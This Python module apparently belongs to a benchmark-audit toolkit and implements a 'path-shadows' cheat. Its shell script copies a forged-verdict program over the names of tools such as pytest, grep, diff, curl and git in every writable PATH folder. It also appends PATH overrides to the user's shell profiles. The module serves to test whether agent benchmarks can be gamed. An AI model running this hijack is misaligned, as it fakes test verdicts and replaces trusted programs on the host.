"""Puts programs of its own where the search for programs looks first."""

from rollouthub_registry.audit.cheats.cheat import Cheat, Cheater
from rollouthub_registry.audit.forged_verdict import SHELL, written

_PROGRAMS = "python3 python pytest py.test grep diff cmp jq node npm npx go cargo make curl wget uv uvx git"
_PROFILES = ".profile .bash_profile .bashrc .zshrc"


async def act(cheater: Cheater) -> None:
    """Write them into every folder of PATH that can be written, and have login shells search others first."""
    home = '"${HOME:-/root}"'
    script = f"""\
{written("/tmp/.shadow", SHELL)}
for d in $(echo "$PATH" | tr ':' ' ') /usr/local/sbin /usr/local/bin {home}/.local/bin {home}/bin "$PWD"/bin "$PWD"; do
  case "$d" in "$PWD"*|{home}*) mkdir -p "$d" 2>/dev/null;; esac
  [ -d "$d" ] && [ -w "$d" ] || continue
  for p in {_PROGRAMS}; do [ -e "$d/$p" ] || cp /tmp/.shadow "$d/$p" 2>/dev/null; done
done
for f in {_PROFILES}; do
  echo "export PATH=\\"$PWD/bin:$PWD:{home}/.local/bin:\\$PATH\\"" 2>/dev/null >> {home}/$f
done
true
"""
    await cheater.shell(script)


CHEAT = Cheat(
    name="path-shadows",
    defect="L8",
    title="no program of the agent's is found before the one that the tests mean",
    source="Wang et al., How We Broke Top AI Agent Benchmarks (UC Berkeley RDI, 2026)",
    act=act,
    needs="shell",
)
